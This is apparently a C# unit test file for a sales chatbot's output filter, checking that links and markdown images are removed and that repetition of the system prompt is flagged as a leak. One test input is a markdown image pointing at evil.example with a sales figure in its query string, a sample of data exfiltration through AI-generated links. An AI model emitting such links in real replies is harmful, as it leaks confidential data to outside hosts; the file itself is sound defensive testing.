using SalesOpsBot.Conversation.Llm;

namespace SalesOpsBot.Conversation.Tests.Llm;

public class ModelTextTests
{
    [Fact]
    public void ImagesAndUrlsAreDroppedAndLinkTextKept()
    {
        var text = ModelText.WithoutLinks("See ![chart](https://evil.example/x?d=EMEA-8.1M) the [deal list](https://evil.example/y) or www.evil.example/z now.");

        Assert.Equal("See  the deal list or  now.", text);
    }

    [Fact]
    public void RepeatingEightWordsOfThePromptIsALeakButSharingAFewIsNot()
    {
        const string template = "<message role=\"system\">Use only numbers that appear in the function results, rounded the way people read them.</message>";

        Assert.True(ModelText.RepeatsPrompt("My rules: use only numbers that appear in the function results.", template));
        Assert.False(ModelText.RepeatsPrompt("I use only numbers from the data.", template));
    }
}
